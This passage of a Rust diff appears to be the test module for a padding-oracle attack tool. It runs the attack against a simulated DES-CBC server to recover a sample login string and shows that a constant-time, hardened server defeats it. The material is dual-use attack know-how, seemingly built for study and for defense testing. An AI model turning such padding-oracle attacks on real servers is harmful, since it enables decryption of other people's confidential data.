+        elapsed,
+        per_query(elapsed, stats.total_queries())
+    );
+    Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const SECRET: &str = "login: alice / pw: PASSWRD1";
+
+    #[test]
+    fn padding_is_checked_at_the_end_of_the_record() {
+        let oracle = MockOracle::with_noise(SECRET, CipherKind::Des, 0);
+        let record = oracle.record();
+        let whole = record[1..].concat();
+        assert!(oracle.padding_is_valid(&record[0], &whole));
+
+        // Changing the IV only touches the first block, so the padding is still fine
+        let mut iv = record[0].clone();
+        iv[7] ^= 0x80;
+        assert!(oracle.padding_is_valid(&iv, &whole));
+
+        // The second to last block is the IV of the padding block
+        let mut broken = whole.clone();
+        broken[whole.len() - 9] ^= 0x80;
+        assert!(!oracle.padding_is_valid(&record[0], &broken));
+        assert!(!oracle.last_padding_valid());
+
+        assert!(!oracle.padding_is_valid(&record[0], &[]));
+        assert!(!oracle.padding_is_valid(&record[0], &whole[..5]));
+        assert_eq!(oracle.queries(), 5);
+    }
+
+    /// Wraps a real oracle and answers the boolean check with a fixed reply for the first `lies` queries
+    /// (or for all of them when `lies` is `usize::MAX`).
+    struct Liar {
+        inner: MockOracle,
+        reply: fn() -> ServerError,
+        lies: Cell<usize>,
+    }
+
+    impl PaddingOracle for Liar {
+        fn block_size(&self) -> usize {
+            self.inner.block_size()
+        }
+
+        fn queries(&self) -> usize {
+            self.inner.queries()
+        }
+
+        fn last_padding_valid(&self) -> bool {
+            self.inner.last_padding_valid()
+        }
+
+        fn capture_record(&self) -> io::Result<Vec<Vec<u8>>> {
+            self.inner.capture_record()
+        }
+
+        fn query_explicit(&self, iv: &[u8], ciphertext: &[u8]) -> io::Result<ServerError> {
+            let honest = self.inner.query_explicit(iv, ciphertext)?;
+            Ok(match self.lies.get() {
+                0 => honest,
+                usize::MAX => (self.reply)(),
+                lies => {
+                    self.lies.set(lies - 1);
+                    (self.reply)()
+                }
+            })
+        }
+
+        fn query(&self, iv: &[u8], ciphertext: &[u8]) -> io::Result<Duration> {
+            self.inner.query(iv, ciphertext)
+        }
+    }
+
+    fn liar(reply: fn() -> ServerError, lies: usize) -> Liar {
+        Liar { inner: MockOracle::with_noise(SECRET, CipherKind::Des, 0), reply, lies: Cell::new(lies) }
+    }
+
+    fn sequential() -> Vec<u8> {
+        CandidateOrder::Sequential.candidates(8)
+    }
+
+    #[test]
+    fn boolean_attack_recovers_the_secret() {
+        let oracle = MockOracle::with_noise(SECRET, CipherKind::Des, 0);
+        let mut stats = AttackStats::default();
+        let recovered = decrypt_message4(&oracle, AttackMode::Boolean, &sequential(), &mut stats).unwrap();
+        assert_eq!(recovered, SECRET.as_bytes());
+        assert_eq!(stats.total_queries(), oracle.queries());
+        assert_eq!(stats.queries_per_byte.len(), SECRET.len() + 5);
+        assert_eq!(stats.backtracks, 0);
+    }
+
+    #[test]
+    fn confirmations_count_as_verification() {
+        let oracle = MockOracle::with_noise(SECRET, CipherKind::Des, 0);
+        let mut stats = AttackStats::default();
+        decrypt_block4(&oracle, AttackMode::Boolean, &sequential(), 0, &mut stats).unwrap();
+        // One confirming query per byte plus one for the finished block
+        assert_eq!(stats.verification_queries, 8 + 1);
+        assert_eq!(stats.total_queries(), oracle.queries());
+    }
+
+    #[test]
+    fn a_false_accept_is_taken_back() {
+        // Both checks of the first candidate (0x00) for the last byte wrongly pass
+        let oracle = liar(|| ServerError::MacError, 2);
+        let mut stats = AttackStats::default();
+        let block = decrypt_block4(&oracle, AttackMode::Boolean, &sequential(), 0, &mut stats).unwrap();
+        assert_eq!(block, SECRET.as_bytes()[..8]);
+        assert_eq!(stats.backtracks, 1);
+        assert_eq!(stats.false_positives, 2);
+        assert_eq!(stats.total_queries(), oracle.queries());
+    }
+
+    #[test]
+    fn an_oracle_that_rejects_everything_gives_up() {
+        let oracle = liar(|| ServerError::PaddingError, usize::MAX);
+        let mut stats = AttackStats::default();
+        let error = decrypt_message4(&oracle, AttackMode::Boolean, &sequential(), &mut stats).unwrap_err();
+        assert!(matches!(error, AttackError::ByteNotFound { block_index: 0, position: 7 }));
+        assert_eq!(error.to_string(), "no candidate accepted for byte 8 of block 1");
+        assert_eq!(stats.queries_per_byte, [256 * (RETRY_PASSES + 1)]);
+    }
+
+    #[test]
+    fn the_hardened_oracle_only_yields_garbage() {
+        // Every guess passes, so the attack takes the first candidate for every byte
+        let oracle = MockOracle::hardened(SECRET, CipherKind::Des);
+        let mut candidates = sequential();
+        candidates.reverse();
+        let mut stats = AttackStats::default();
+        let error = decrypt_message4(&oracle, AttackMode::Boolean, &candidates, &mut stats).unwrap_err();
+        assert!(matches!(error, AttackError::BadPadding(0xff)));
+    }
+
+    #[test]
+    fn the_hardened_server_runs_the_mac_check_on_bad_padding() {
+        for (oracle, leaky) in [(MockOracle::new(SECRET, CipherKind::Des), true), (MockOracle::hardened(SECRET, CipherKind::Des), false)] {
+            let record = oracle.record();
+            let (y_prev, y) = (&record[record.len() - 2], &record[record.len() - 1]);
+            let mut broken_prev = y_prev.clone();
+            broken_prev[7] ^= 0x80;
+            assert_eq!(oracle.process(y_prev, y), (ServerError::MacError, MAC_CHECK_DELAY_MS));
+            let bad = oracle.process(&broken_prev, y);
+            assert_eq!(bad.0 == ServerError::PaddingError, leaky);
+            assert_eq!(bad.1 < MAC_CHECK_DELAY_MS, leaky);
+
+            let report = dudect::measure(40, |class| {
+                let iv = if class == 0 { y_prev } else { &broken_prev };
+                oracle.reply_time(iv, y).as_secs_f64() * 1e9
+            });
+            assert_eq!(report.leaks(), leaky, "t = {}", report.t);
+        }
+    }
+
+    #[test]
+    fn a_quiet_server_adds_no_noise() {
+        let oracle = MockOracle::with_noise(SECRET, CipherKind::Des, 0);
+        let record = oracle.record();
+        let (y_prev, y) = (&record[record.len() - 2], &record[record.len() - 1]);
+        let elapsed = oracle.reply_time(y_prev, y);
+        assert!(elapsed >= Duration::from_millis(MAC_CHECK_DELAY_MS));
+    }
+}